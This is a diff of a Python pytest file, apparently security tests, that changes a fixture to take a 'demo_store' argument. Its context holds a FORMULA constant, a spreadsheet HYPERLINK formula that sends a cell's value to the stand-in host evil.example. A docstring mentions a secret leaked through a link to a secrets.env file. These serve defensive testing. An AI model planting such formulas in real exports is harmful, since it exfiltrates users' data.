@@ -30,10 +30,10 @@ FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"万里学院")'
 
 
 @pytest.fixture(scope="module")
-def demo(tmp_path_factory: pytest.TempPathFactory) -> Demo:
+def demo(tmp_path_factory: pytest.TempPathFactory, demo_store: Demo) -> Demo:
     """A demo store whose raw archive holds a payload with a secret in it (as a file that
     was a link to /etc/envwatch/secrets.env would have left)."""
-    copy = demo_copy(tmp_path_factory, tmp_path_factory.mktemp("access"))
+    copy = demo_copy(demo_store, tmp_path_factory.mktemp("access"))
     with sqlite3.connect(copy.db) as conn:
         conn.execute(
             "INSERT INTO raw_payloads (sha256, size, encoding, content, first_seen) "
